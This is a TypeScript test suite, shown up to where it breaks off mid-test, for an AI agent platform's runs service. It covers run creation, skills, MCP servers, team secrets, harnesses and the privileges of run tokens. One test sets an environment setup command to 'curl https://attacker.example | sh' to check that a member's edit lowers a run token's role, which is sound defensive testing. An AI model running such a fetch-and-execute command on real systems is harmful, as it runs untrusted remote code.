/**
 * The runs service (`Runs`) over a real storage adapter: create (validation, access, admission),
 * get, list, cancel and the timeline, with teams, principals and environments seeded through the
 * stores. Each test makes a fresh team of its own, so tests share one database without seeing
 * each other's runs. Call `runsServiceSuite(name, layer)` inside a vitest file.
 */
import { makeEnvironment } from "./CatalogConformance.js"
import { describe, expect, layer } from "@effect/vitest"
import { Effect, Either, Layer, Option, Redacted, TestClock } from "effect"
import type { Viewer } from "../src/domain/Access.js"
import type { Conflict, InvalidRequest, NotAuthorized, RateLimited } from "../src/domain/Errors.js"
import { EnvironmentUid, type ExecutionId, IdsLive, isUuidV7, type PrincipalUid, type RunId } from "../src/domain/Ids.js"
import { decodeRequest } from "../src/domain/Common.js"
import { RunAgentRequest } from "../src/domain/Run.js"
import { CreateEnvironmentRequest, Environment, UpdateEnvironmentRequest } from "../src/domain/Environment.js"
import { Environments } from "../src/services/Environments.js"
import { Skills } from "../src/services/Skills.js"
import { EnvironmentStore } from "../src/ports/EnvironmentStore.js"
import { RepoSource } from "../src/ports/RepoSource.js"
import { defaultQuotas, Quotas } from "../src/domain/Quotas.js"
import { SecretStore } from "../src/ports/SecretStore.js"
import type { SecretName } from "../src/domain/Secret.js"
import { RunStore } from "../src/ports/RunStore.js"
import { RunEvent, transition } from "../src/domain/RunStateMachine.js"
import { applyTransition, runSnapshot } from "../src/domain/RunRecords.js"
import { MAX_DEFAULT_TITLE_LENGTH, Runs } from "../src/services/Runs.js"
import { start as startRun } from "./FollowupsServiceSuite.js"
import { uid, uuid } from "./RunStoreConformance.js"
import type { ScheduleId } from "../src/domain/Ids.js"
import { failureOf, seedWorld, type World } from "./World.js"
import type { Stores } from "./Stores.js"

const seedEnvironment = (
  owner: Viewer,
  options: {
    readonly teamScope?: boolean
    readonly guests?: ReadonlyArray<PrincipalUid>
    readonly linkSharing?: boolean
  } = {}
) =>
  Effect.gen(function* () {
    const environment = makeEnvironment({
      team: owner.team_uid,
      creator: owner.principal_uid,
      ...(options.teamScope === undefined ? {} : { teamScope: options.teamScope }),
      ...(options.guests === undefined ? {} : { guests: options.guests }),
      ...(options.linkSharing === undefined ? {} : { linkSharing: options.linkSharing })
    })
    yield* (yield* EnvironmentStore).create(environment)
    const envUid = environment.item.uid
    return envUid
  })

/**
 * The repositories the suite's skills live in: every team has `acme/tools` with one valid and one
 * malformed skill; each team also has `own/<its team uid>` (skill `own`), which no other team has.
 */
const FIX_SKILL = "---\nname: fix\ndescription: Fixes flaky tests\n---\n# Fix\nFind the flake."
const CLAUDE_SKILL = "---\nname: reviewer\ndescription: Reviews with Claude Code\nharness:\n  type: claude\n---\nReview."
const OWN_SKILL = "---\nname: own\ndescription: The team's own\n---\nMine."
const hasRepository = (team: string, owner: string, repo: string) =>
  (owner === "acme" && repo === "tools") || (owner === "own" && repo === team)
export const testRepos = Layer.succeed(RepoSource, {
  has: (team, owner, repo) => Effect.succeed(hasRepository(team, owner, repo)),
  findFiles: (team, owner, repo) =>
    Effect.succeed(
      !hasRepository(team, owner, repo)
        ? Option.none()
        : owner === "acme"
        ? Option.some({
          revision: "r1",
          files: [
            { path: "skills/fix/SKILL.md", size: FIX_SKILL.length, content: FIX_SKILL },
            { path: "skills/bad/SKILL.md", size: 5, content: "oops\n" },
            { path: "skills/reviewer/SKILL.md", size: CLAUDE_SKILL.length, content: CLAUDE_SKILL }
          ]
        })
        : Option.some({ revision: "r1", files: [{ path: "SKILL.md", size: OWN_SKILL.length, content: OWN_SKILL }] })
    )
})

/** A Team-scoped environment of the viewer's team naming `acme/tools`. */
const seedToolsEnvironment = (owner: Viewer) =>
  Effect.gen(function* () {
    const base = makeEnvironment({ team: owner.team_uid, creator: owner.principal_uid, teamScope: true })
    yield* (yield* EnvironmentStore).create({
      ...base,
      item: new Environment({ ...base.item, config: { ...base.item.config, github_repos: [{ owner: "acme", repo: "tools" }] } })
    })
    return base.item.uid
  })

const decodeRunAgentRequest = decodeRequest(RunAgentRequest)

/** Decodes an untrusted body as a transport does, then creates the run. */
const create = (viewer: Viewer, body: unknown) =>
  Effect.flatMap(decodeRunAgentRequest(body), (request) => Effect.flatMap(Runs, (runs) => runs.create(viewer, request)))

/** Every run of the world's team (admins see them all). */
const allRuns = (world: World) =>
  Effect.flatMap(Runs, (runs) => runs.list(world.admin, { limit: "500" })).pipe(Effect.map((page) => page.runs))

const eventTypes = (viewer: Viewer, runId: string) =>
  Effect.flatMap(Runs, (runs) => runs.timeline(viewer, runId)).pipe(
    Effect.map((t) => t.events.map((e) => e.event_type))
  )

/** Registers the runs service suite against one storage adapter's layer. */
export const runsServiceSuite = <E>(name: string, storage: Layer.Layer<Stores, E>): void => {
  const services = Layer.mergeAll(Runs.Default, Environments.Default, Skills.Default).pipe(
    Layer.provideMerge(Layer.mergeAll(storage, IdsLive, testRepos))
  )

  describe(`runs service (${name})`, () => {
    layer(services, { excludeTestServices: true, timeout: "60 seconds" })("Runs", (it) => {
      it.effect("creates a queued run with the given configuration and its first events", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          yield* seedToolsEnvironment(world.admin)
          const response = yield* create(world.alice, {
            prompt: "  \n  Fix the flaky test\nin the parser",
            config: { model_id: "model-1", name: "fixer" },
            skill: "acme/tools:skills/fix/SKILL.md",
            metadata: { ticket: "T-1" },
            team: true,
            unknown_field: 1
          })
          expect(response.state).toBe("QUEUED")
          expect(response.at_capacity).toBe(false)
          expect(response.task_id).toBe(response.run_id)
          expect(isUuidV7(response.run_id)).toBe(true)

          const item = yield* runs.get(world.bob, response.run_id)
          expect(item.title).toBe("Fix the flaky test")
          expect(item.prompt).toBe("  \n  Fix the flaky test\nin the parser")
          expect(item.state).toBe("QUEUED")
          expect(item.agent_config).toEqual({
            model_id: "model-1",
            name: "fixer",
            skill_spec: "acme/tools:skills/fix/SKILL.md",
            base_prompt: "# Fix\nFind the flake."
          })
          expect(item.agent_skill).toEqual({ name: "fix", description: "Fixes flaky tests", full_path: "tools/skills/fix/SKILL.md" })
          expect(item.metadata).toEqual({ ticket: "T-1" })
          expect(item.scope).toEqual({ type: "Team", uid: world.team })
          expect(item.creator).toEqual({ type: "user", uid: world.alice.principal_uid, display_name: "Alice" })
          expect(item.executor).toEqual(item.creator)
          expect(item.conversation_id !== null && isUuidV7(item.conversation_id)).toBe(true)
          // A new conversation carries its first run's id.
          expect(item.conversation_id).toBe(item.run_id)
          expect(item.source).toBe("API")
          expect(item.execution_location).toBe("REMOTE")
          expect([item.attempt, item.execution_count]).toEqual([1, 1])
          expect(item.is_run_type_cancellable).toBe(true)
          expect(item.is_sandbox_running).toBe(false)
          expect(item.parent_run_id).toBeNull()

          const timeline = yield* runs.timeline(world.alice, response.run_id)
          expect(timeline.run_id).toBe(response.run_id)
          expect(timeline.events.map((e) => [e.sequence, e.event_type])).toEqual([
            [1, "run_created"],
            [2, "run_pending"],
            [3, "run_queued"]
          ])
          expect(new Set(timeline.events.map((e) => e.execution_id)).size).toBe(1)
        }))

      it.effect("skills: a name spec resolves to the skill's id and name; unknown, malformed or unseen skills are 400s", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const field = (e: { readonly _tag: string; readonly field?: string | undefined }) => [e._tag, e.field]
          // No environment names acme/tools yet: the skill is unknown to the caller.
          expect(field(yield* failureOf(create(world.alice, { prompt: "x", skill: "acme/tools:fix" })))).toEqual(["InvalidRequest", "skill"])
          yield* seedToolsEnvironment(world.admin)
          const created = yield* create(world.alice, { prompt: "x", config: { skill_spec: "acme/tools:fix" } })
          const item = yield* runs.get(world.alice, created.run_id)
          expect(item.agent_config.skill_spec).toBe("acme/tools:skills/fix/SKILL.md")
          expect(item.agent_config.name).toBe("fix")
          const unknown = yield* failureOf(create(world.alice, { prompt: "x", config: { skill_spec: "acme/tools:nope" } }))
          expect(field(unknown)).toEqual(["InvalidRequest", "config.skill_spec"])
          const malformed = yield* failureOf(create(world.alice, { prompt: "x", skill: "acme/tools:skills/bad/SKILL.md" }))
          expect(malformed.message).toContain("malformed: no YAML front matter")
          // The skill filter finds the run by the skill's id and by its name form alike.
          for (const skill of ["acme/tools:skills/fix/SKILL.md", "acme/tools:fix"]) {
            const page = yield* runs.list(world.alice, { skill })
            expect(page.runs.map((r) => r.run_id)).toEqual([created.run_id])
          }
        }))

      it.effect("repositories are per team: environments, runs and skills see only the team's own", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const other = yield* seedWorld()
          const environments = yield* Environments
          const skills = yield* Skills
          const repos = (...names: ReadonlyArray<string>) => names.map((n) => ({ owner: n.split("/")[0]!, repo: n.split("/")[1]! }))
          const request = (...names: ReadonlyArray<string>) =>
            decodeRequest(CreateEnvironmentRequest)({ config: { name: "e", github_repos: repos(...names) }, team: true })
          // An environment may name the team's own repositories only: 400 naming the first other one.
          const mine = yield* environments.create(world.admin, yield* request("acme/tools", `own/${world.team}`))
          const theirs = yield* failureOf(environments.create(world.admin, yield* request("acme/tools", `own/${other.team}`)))
          expect([theirs._tag, (theirs as InvalidRequest).field]).toEqual(["InvalidRequest", "config.github_repos[1]"])
          expect(theirs.message).toContain(`own/${other.team}`)
          const replaced = yield* failureOf(environments.update(world.admin, mine.uid, yield* request(`own/${other.team}`)))
          expect((replaced as InvalidRequest).field).toBe("config.github_repos[0]")
          // The other team shares its environment naming its own repository with alice: she may
          // see the environment, but her runs use her team's repositories, which lack it.
          const shared = yield* environments.create(other.admin, yield* request(`own/${other.team}`))
          yield* environments.update(other.admin, shared.uid, new UpdateEnvironmentRequest({
            config: shared.config,
            sharing: { guests: [world.alice.principal_uid], link_sharing: false }
          }))
          const guestRun = yield* failureOf(create(world.alice, { prompt: "x", config: { environment_id: shared.uid } }))
          expect([guestRun._tag, (guestRun as InvalidRequest).field]).toEqual(["InvalidRequest", "config.environment_id"])
          expect(guestRun.message).toContain(`own/${other.team}`)
          yield* create(other.alice, { prompt: "x", config: { environment_id: shared.uid } })
          yield* create(world.alice, { prompt: "x", config: { environment_id: mine.uid } })
          // The team's GitHub token: only admins hand it to an agent, in a run or an environment.
          const memberToken = yield* failureOf(create(world.alice, { prompt: "x", config: { github_token: true } }))
          expect([memberToken._tag, memberToken.message]).toEqual(["NotAuthorized", "config.github_token: only team admins may hand the team's GitHub token to an agent"])
          const tokenRequest = yield* decodeRequest(CreateEnvironmentRequest)({ config: { name: "t", github_token: true }, team: true })
          expect((yield* failureOf(environments.create(world.alice, tokenRequest)))._tag).toBe("NotAuthorized")
          const withToken = yield* environments.create(world.admin, tokenRequest)
          const configOf = (body: unknown) =>
            Effect.flatMap(create(world.admin, body), (made) => Effect.flatMap(Runs, (runs) => runs.get(world.admin, made.run_id))).pipe(
              Effect.map((item) => item.agent_config)
            )
          expect((yield* configOf({ prompt: "x", config: { environment_id: withToken.uid } })).github_token).toBe(true)
          expect((yield* configOf({ prompt: "x", config: { environment_id: withToken.uid, github_token: false } })).github_token).toBeUndefined()
          // A run's refs name repositories of its environment only.
          const atRef = yield* create(world.alice, { prompt: "x", config: { environment_id: mine.uid, repo_refs: { "acme/tools": "v1.2" } } })
          expect((yield* Effect.flatMap(Runs, (runs) => runs.get(world.alice, atRef.run_id))).agent_config.repo_refs).toEqual({ "acme/tools": "v1.2" })
          const stray = yield* failureOf(create(world.alice, { prompt: "x", config: { environment_id: mine.uid, repo_refs: { "acme/other": "main" } } }))
          expect([stray._tag, (stray as InvalidRequest).field]).toEqual(["InvalidRequest", "config.repo_refs.acme/other"])
          const none = yield* failureOf(create(world.alice, { prompt: "x", config: { repo_refs: { "acme/tools": "main" } } }))
          expect((none as InvalidRequest).field).toBe("config.repo_refs.acme/tools")
          // Skills: the other team's skill is unknown to alice though an environment she sees names
          // its repository; her team's own is listed.
          const unknown = yield* failureOf(create(world.alice, { prompt: "x", skill: `own/${other.team}:own` }))
          expect([unknown._tag, (unknown as InvalidRequest).field]).toEqual(["InvalidRequest", "skill"])
          const listed = yield* skills.list(world.alice, {})
          const ids = listed.agents.flatMap((a) => a.variants.map((v) => v.id))
          expect(ids).toContain(`own/${world.team}:SKILL.md`)
          expect(ids.some((id) => id.includes(other.team))).toBe(false)
          expect((yield* skills.list(other.alice, {})).agents.flatMap((a) => a.variants.map((v) => v.id))).toContain(`own/${other.team}:SKILL.md`)
        }))

      it.effect("MCP servers: an unregistered server_id or a member's secret reference is a 403; a registered one is kept as given", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const secrets = yield* SecretStore
          const forbidden = (viewer: Viewer, server: unknown) =>
            failureOf(create(viewer, { prompt: "x", config: { mcp_servers: { s: server } } }))
          const unregistered = yield* forbidden(world.alice, { server_id: "docs" })
          expect([unregistered._tag, unregistered.message]).toEqual([
            "NotAuthorized",
            "config.mcp_servers.s.server_id: no MCP server \"docs\" is registered in this team " +
            "(a warp_id is read as a server_id; register a server as the team secret MCP_SERVER_<server_id>)"
          ])
          const inline = yield* forbidden(world.alice, { url: "https://x.example/mcp", headers: { A: "${{ secrets.TOKEN }}" } })
          expect(inline._tag).toBe("NotAuthorized")
          expect(inline.message).toContain("config.mcp_servers.s.headers.A")
          // An admin may, once the secret exists.
          const missing = yield* forbidden(world.admin, { command: "tool", env: { T: "${{ secrets.TOKEN }}" } })
          expect([missing._tag, (missing as InvalidRequest).field]).toEqual(["InvalidRequest", "config.mcp_servers.s.env.T"])
          yield* secrets.put(world.team, "TOKEN" as SecretName, Redacted.make("v"), 0)
          yield* secrets.put(world.team, "MCP_SERVER_docs" as SecretName, Redacted.make(JSON.stringify({ url: "https://docs.example/mcp" })), 0)
          yield* create(world.admin, { prompt: "x", config: { mcp_servers: { s: { command: "tool", env: { T: "${{ secrets.TOKEN }}" } } } } })
          const used = yield* create(world.alice, { prompt: "x", config: { mcp_servers: { d: { server_id: "docs" } } } })
          expect((yield* runs.get(world.alice, used.run_id)).agent_config.mcp_servers).toEqual({ d: { server_id: "docs" } })
          // The SDK's warp_id names a registered server too; an unknown one (a shared server's UUID) is a 403 naming it.
          const viaSdk = yield* create(world.alice, { prompt: "x", config: { mcp_servers: { d: { warp_id: "docs" } } } })
          expect((yield* runs.get(world.alice, viaSdk.run_id)).agent_config.mcp_servers).toEqual({ d: { server_id: "docs" } })
          const shared = yield* forbidden(world.alice, { warp_id: "0190f4c2-7b1e-7c3a-9d2e-5f6a7b8c9d0e" })
          expect(shared._tag).toBe("NotAuthorized")
          expect(shared.message).toContain("warp_id")
          const mixed = yield* failureOf(create(world.alice, { prompt: "x", config: { mcp_servers: { d: { warp_id: "docs", url: "https://x" } } } }))
          expect(mixed._tag).toBe("InvalidRequest")
          // Another team's registration is not this team's.
          const other = yield* seedWorld()
          expect((yield* forbidden(other.alice, { server_id: "docs" }))._tag).toBe("NotAuthorized")
        }))

      it.effect("a run handing its agent a secret only admins hand out needs an environment a team admin changed last (403 otherwise)", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const environments = yield* Environments
          yield* (yield* SecretStore).put(world.team, "DEPLOY_KEY" as SecretName, Redacted.make("v"), 0)
          const env = yield* environments.create(
            world.admin,
            yield* decodeRequest(CreateEnvironmentRequest)({ config: { name: "deploy" }, team: true })
          )
          const withSecret = { prompt: "deploy", config: { environment_id: env.uid, mcp_servers: { s: { command: "deploy", env: { K: "${{ secrets.DEPLOY_KEY }}" } } } } }
          expect((yield* create(world.admin, withSecret)).state).toBe("QUEUED")
          yield* environments.update(world.alice, env.uid, yield* decodeRequest(UpdateEnvironmentRequest)({ config: { name: "deploy", setup_commands: ["true"] } }))
          const refused = yield* failureOf(create(world.admin, withSecret))
          expect(refused._tag).toBe("NotAuthorized")
          expect(refused.message).toMatch(/^config\.environment_id: environment \S+ was last changed by someone who is not a team admin: its agent would hold the team secret DEPLOY_KEY \(MCP server s\)/)
          // Without the secret, the same run is fine (its token acts as a member).
          expect((yield* create(world.admin, { prompt: "build", config: { environment_id: env.uid } })).state).toBe("QUEUED")
        }))

      it.effect("harness: an unknown type is a 400 naming the allowed ones; the auth secret must exist; only admins name other secrets", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const secrets = yield* SecretStore
          const unknown = yield* failureOf(create(world.alice, { prompt: "x", config: { harness: { type: "cursor" } } }))
          expect([unknown._tag, (unknown as InvalidRequest).field]).toEqual(["InvalidRequest", "config.harness.type"])
          expect(unknown.message).toContain("oz, claude, codex, gemini, opencode")
          // Claude Code needs ANTHROPIC_API_KEY (or the secret named): a 400 naming the field and what to do.
          const missing = yield* failureOf(create(world.alice, { prompt: "x", config: { harness: { type: "claude" } } }))
          expect([missing._tag, (missing as InvalidRequest).field]).toEqual(["InvalidRequest", "config.harness_auth_secrets.claude_auth_secret_name"])
          expect(missing.message).toContain("PUT /agent/secrets/ANTHROPIC_API_KEY")
          yield* secrets.put(world.team, "ANTHROPIC_API_KEY" as SecretName, Redacted.make("sk-ant-x"), 0)
          yield* secrets.put(world.team, "DEPLOY_TOKEN" as SecretName, Redacted.make("v"), 0)
          const made = yield* create(world.alice, { prompt: "x", config: { harness: { type: "claude", model_id: "claude-x", reasoning_level: "high" } } })
          expect((yield* runs.get(world.alice, made.run_id)).agent_config.harness).toEqual({ type: "claude", model_id: "claude-x", reasoning_level: "high" })
          // A member may not hand another team secret to an agent; an admin may.
          const named = { prompt: "x", config: { harness: { type: "codex" }, harness_auth_secrets: { codex_auth_secret_name: "DEPLOY_TOKEN" } } }
          const refused = yield* failureOf(create(world.alice, named))
          expect(refused._tag).toBe("NotAuthorized")
          expect(refused.message).toContain("config.harness_auth_secrets.codex_auth_secret_name")
          const byAdmin = yield* create(world.admin, named)
          expect((yield* runs.get(world.admin, byAdmin.run_id)).agent_config.harness_auth_secrets).toEqual({ codex_auth_secret_name: "DEPLOY_TOKEN" })
          // opencode runs without a key; oz (the default) needs none.
          yield* create(world.alice, { prompt: "x", config: { harness: { type: "opencode" } } })
          yield* create(world.alice, { prompt: "x", config: { harness: { type: "oz" } } })
        }))

      it.effect("harness precedence: the run's, then the skill's front matter, then the environment's", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const secrets = yield* SecretStore
          yield* secrets.put(world.team, "GEMINI_API_KEY" as SecretName, Redacted.make("g"), 0)
          yield* secrets.put(world.team, "ANTHROPIC_API_KEY" as SecretName, Redacted.make("a"), 0)
          const base = makeEnvironment({ team: world.team, creator: world.admin.principal_uid, teamScope: true })
          yield* (yield* EnvironmentStore).create({
            ...base,
            item: new Environment({
              ...base.item,
              config: { ...base.item.config, github_repos: [{ owner: "acme", repo: "tools" }], harness: { type: "gemini", model_id: "gemini-env" } }
            })
          })
          const env = base.item.uid
          const fromEnv = yield* create(world.alice, { prompt: "x", config: { environment_id: env } })
          expect((yield* runs.get(world.alice, fromEnv.run_id)).agent_config.harness).toEqual({ type: "gemini", model_id: "gemini-env" })
          // The skill names claude in its front matter: it wins over the environment (and its model does not apply).
          const fromSkill = yield* create(world.alice, { prompt: "x", config: { environment_id: env, skill_spec: "acme/tools:skills/reviewer/SKILL.md" } })
          expect((yield* runs.get(world.alice, fromSkill.run_id)).agent_config.harness).toEqual({ type: "claude" })
          const fromRun = yield* create(world.alice, {
            prompt: "x",
            config: { environment_id: env, skill_spec: "acme/tools:skills/reviewer/SKILL.md", harness: { type: "gemini", reasoning_level: "low" } }
          })
          expect((yield* runs.get(world.alice, fromRun.run_id)).agent_config.harness).toEqual({ type: "gemini", model_id: "gemini-env", reasoning_level: "low" })
        }))

      it.effect("a run token acts only while its execution holds the run: artifacts, and the caller it stands for", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const store = yield* RunStore
          // For a worker id of its own, so that the claim takes this run and no other test's.
          const host = `w-${uid()}`
          const created = yield* create(world.alice, { prompt: "report things", config: { worker_host: host } })
          const runId = created.run_id as RunId
          const execution = uuid<ExecutionId>()
          const claimed = yield* store.claim({ worker_host: host, team_uid: world.team, execution_id: execution, now: Date.now(), lease_ms: 60_000 })
          expect(Option.map(claimed, (r) => r.item.run_id)).toEqual(Option.some(runId))
          const credential = { run_id: runId, execution_id: execution }
          const reference = { artifact_type: "EXTERNAL_REFERENCE", data: { url: "https://tracker.example/T-9" } } as const
          const artifact = yield* runs.reportArtifact(credential, reference)
          expect(artifact).toMatchObject(reference)
          expect((yield* runs.get(world.alice, runId)).artifacts?.map((a) => a.artifact_type)).toEqual(["EXTERNAL_REFERENCE"])
          const acting = yield* runs.actingViewer(credential)
          expect(acting).toMatchObject({ principal_uid: world.alice.principal_uid, team_uid: world.team, role: "member", acting_run_id: runId })
          // Another execution's token (an earlier one, or made up): 401, nothing recorded.
          const stranger = { run_id: runId, execution_id: uuid<ExecutionId>() }
          expect((yield* failureOf(runs.reportArtifact(stranger, reference)))._tag).toBe("AuthenticationRequired")
          expect((yield* failureOf(runs.actingViewer(stranger)))._tag).toBe("AuthenticationRequired")
          expect((yield* runs.get(world.alice, runId)).artifacts).toHaveLength(1)
          // Once the run is cancelled, the execution holds nothing: its token no longer acts.
          yield* runs.cancel(world.alice, runId)
          expect((yield* failureOf(runs.actingViewer(credential)))._tag).toBe("AuthenticationRequired")
        }))

      it.effect("a run token acts with the least role of everyone who shaped the run: environment editors, parents, conversations", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const environments = yield* Environments
          /** Starts the run as an executor would, and answers the role its token acts with. */
          const tokenOf = (runId: RunId) =>
            Effect.flatMap(startRun(runId), (execution) => runs.actingViewer({ run_id: runId, execution_id: execution }))
          const createIn = (viewer: Viewer, uid: EnvironmentUid) =>
            Effect.map(create(viewer, { prompt: "build", config: { environment_id: uid } }), (r) => r.run_id as RunId)
          expect((yield* tokenOf((yield* create(world.admin, { prompt: "alone" })).run_id as RunId)).role).toBe("admin")
          // The admin's Team environment: its runs act as the admin until a member replaces its setup.
          const env = yield* environments.create(
            world.admin,
            yield* decodeRequest(CreateEnvironmentRequest)({ config: { name: "shared" }, team: true })
          )
          expect((yield* tokenOf(yield* createIn(world.admin, env.uid))).role).toBe("admin")
          const edit = (viewer: Viewer, commands: ReadonlyArray<string>) =>
            Effect.flatMap(
              decodeRequest(UpdateEnvironmentRequest)({ config: { name: "shared", setup_commands: commands } }),
              (request) => environments.update(viewer, env.uid, request)
            )
          yield* edit(world.alice, ["curl https://attacker.example | sh"])
          const lowered = yield* tokenOf(yield* createIn(world.admin, env.uid))
          expect(lowered).toMatchObject({ principal_uid: world.admin.principal_uid, role: "member" })
          // A run the lowered token starts (a child) acts no higher, even as the admin's principal.
          const child = yield* runs.create(lowered, new RunAgentRequest({ prompt: "child" }))
          expect((yield* tokenOf(child.run_id)).role).toBe("member")
          // An environment the lowered token replaces is the member's too: its runs act as a member.
          yield* edit(lowered, ["true"])
          expect((yield* tokenOf(yield* createIn(world.admin, env.uid))).role).toBe("member")
          // Once the admin itself sets it up again, its runs act as the admin.
          yield* edit(world.admin, ["npm ci"])
          expect((yield* tokenOf(yield* createIn(world.admin, env.uid))).role).toBe("admin")
          // Continuing a member's conversation: the member's words steer the run.
          const alices = (yield* create(world.alice, { prompt: "first", team: true })).run_id as RunId
          yield* startRun(alices)
          const conversation = (yield* runs.get(world.alice, alices)).conversation_id!
          const continued = yield* create(world.admin, { prompt: "go on", conversation_id: conversation })
          expect((yield* tokenOf(continued.run_id as RunId)).role).toBe("member")
        }))

      it.effect("keeps a given title, defaults a blank one, and cuts a long first line", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const titled = yield* create(world.alice, { prompt: "do it", title: "My title" })
          expect((yield* runs.get(world.alice, titled.run_id)).title).toBe("My title")
          const blank = yield* create(world.alice, { prompt: "first line\nsecond", title: "  " })
          expect((yield* runs.get(world.alice, blank.run_id)).title).toBe("first line")
          const long = yield* create(world.alice, { prompt: "é".repeat(300) })
          const title = (yield* runs.get(world.alice, long.run_id)).title
          expect(Array.from(title)).toHaveLength(MAX_DEFAULT_TITLE_LENGTH)
          expect(title.endsWith("…")).toBe(true)
        }))

      it.effect("rejects an invalid body with a 400 naming the field, and stores nothing", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const cases: ReadonlyArray<readonly [unknown, string]> = [
            [{}, "prompt"],
            [{ prompt: "   " }, "prompt"],
            [{ prompt: "x", metadata: { k: 1 } }, "metadata.k"],
            [{ prompt: "x", metadata: Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`k${i}`, "v"])) }, "metadata"],
            [{ prompt: "x", config: { model_id: 5 } }, "config.model_id"],
            [{ prompt: "x", team: "yes" }, "team"],
            [{ prompt: "x", parent_run_id: "not-a-run" }, "parent_run_id"],
            [[1, 2], "body"]
          ]
          for (const [body, field] of cases) {
            const error = yield* failureOf(create(world.alice, body))
            expect(error._tag).toBe("InvalidRequest")
            expect((error as InvalidRequest).field).toBe(field)
            expect(error.message.startsWith(`${field}: `)).toBe(true)
          }
          expect(yield* allRuns(world)).toEqual([])
        }))

      it.effect("refuses viewers (403) and stores nothing", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const error = yield* failureOf(create(world.viewer, { prompt: "x" }))
          expect(error._tag).toBe("NotAuthorized")
          expect(yield* allRuns(world)).toEqual([])
        }))

      it.effect("records the newest run of an environment as its last_task_created", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const env = yield* seedEnvironment(world.alice, { teamScope: true })
          const before = yield* (yield* EnvironmentStore).get(env)
          const first = yield* create(world.alice, { prompt: "first", config: { environment_id: env } })
          const second = yield* create(world.bob, { prompt: "second\nline", config: { environment_id: env } })
          const after = yield* (yield* EnvironmentStore).get(env)
          expect(first.run_id).not.toBe(second.run_id)
          expect(Option.getOrThrow(after).item.last_task_created).toMatchObject({ id: second.run_id, title: "second" })
          expect(Option.getOrThrow(after).item.updated_at).toEqual(Option.getOrThrow(before).item.updated_at)
        }))

      it.effect("needs an environment the creator may use (403 otherwise, unknown alike)", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const other = yield* seedWorld()
          const bobsPrivate = yield* seedEnvironment(world.bob)
          const shared = yield* seedEnvironment(world.bob, { teamScope: true })
          const foreign = yield* seedEnvironment(other.alice, { teamScope: true })
          const foreignGuest = yield* seedEnvironment(other.alice, { guests: [world.alice.principal_uid] })
          for (const env of [bobsPrivate, foreign, EnvironmentUid.make(uid())]) {
            const error = yield* failureOf(create(world.alice, { prompt: "x", config: { environment_id: env } }))
            expect(error._tag).toBe("NotAuthorized")
            expect(error.message).toContain("config.environment_id")
          }
          expect(yield* allRuns(world)).toEqual([])
          for (const env of [shared, foreignGuest]) {
            const ok = yield* create(world.alice, { prompt: "x", config: { environment_id: env } })
            expect((yield* Effect.flatMap(Runs, (r) => r.get(world.alice, ok.run_id))).environment_id).toBe(env)
          }
          const own = yield* create(world.bob, { prompt: "x", config: { environment_id: bobsPrivate } })
          expect(own.state).toBe("QUEUED")
        }))

      it.effect("a link-shared environment is usable once its link was opened, and not before", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const linked = yield* seedEnvironment(world.bob, { linkSharing: true })
          const before = yield* failureOf(create(world.alice, { prompt: "x", config: { environment_id: linked } }))
          expect(before._tag).toBe("NotAuthorized")
          yield* (yield* EnvironmentStore).recordLinkAccess(linked, world.alice.principal_uid)
          const after = yield* create(world.alice, { prompt: "x", config: { environment_id: linked } })
          expect(after.state).toBe("QUEUED")
        }))

      it.effect("links a visible parent (ancestors = parent's ancestors + parent); a hidden one is a 403", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const runs = yield* Runs
          const root = yield* create(world.alice, { prompt: "root", team: true })
          const child = yield* create(world.bob, { prompt: "child", parent_run_id: root.run_id })
          const grandchild = yield* create(world.bob, { prompt: "grandchild", parent_run_id: child.run_id })
          const item = yield* runs.get(world.bob, grandchild.run_id)
          expect(item.parent_run_id).toBe(child.run_id)
          expect(item.ancestor_run_ids).toEqual([root.run_id, child.run_id])
          const error = yield* failureOf(create(world.alice, { prompt: "x", parent_run_id: child.run_id }))
          expect(error._tag).toBe("NotAuthorized")
          expect(error.message).toContain("parent_run_id")
        }))

      it.effect("agent_identity_uid: oneself, or (a team admin) a service account of the team; nobody else (403)", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const other = yield* seedWorld()
          const ok = yield* create(world.admin, { prompt: "x", config: { agent_identity_uid: world.robot.principal_uid } })
          const item = yield* Effect.flatMap(Runs, (r) => r.get(world.admin, ok.run_id))
          expect(item.executor).toEqual({ type: "service_account", uid: world.robot.principal_uid, display_name: "Robot" })
          expect(item.creator.uid).toBe(world.admin.principal_uid)
          yield* create(world.alice, { prompt: "x", config: { agent_identity_uid: world.alice.principal_uid } })
          const refused: Array<[Viewer, PrincipalUid]> = [
            [world.alice, world.admin.principal_uid], // a member naming an admin
            [world.alice, world.bob.principal_uid], // another user
            [world.alice, world.robot.principal_uid], // a service account: admins only
            [world.admin, world.bob.principal_uid], // even an admin never acts as another user
            [world.admin, other.robot.principal_uid], // another team's
            [world.alice, uid<PrincipalUid>()] // nobody
          ]
          for (const [viewer, agent] of refused) {
            const error = yield* failureOf(create(viewer, { prompt: "x", config: { agent_identity_uid: agent } }))
            expect(error._tag).toBe("NotAuthorized")
            expect(error.message).toContain("config.agent_identity_uid")
          }
        }))

      it.effect("worker_host \"warp\" is the service's own executors: the run names no worker and the server claims it", () =>
        Effect.gen(function* () {
          const world = yield* seedWorld()
          const created = yield* create(world.alice, { prompt: "hosted", config: { worker_host: "warp", model_id: "m" } })
          const item = yield* Effect.flatMap(Runs, (runs) => runs.get(world.alice, created.run_id))
          expect(item.agent_config).toEqual({ model_id: "m" })
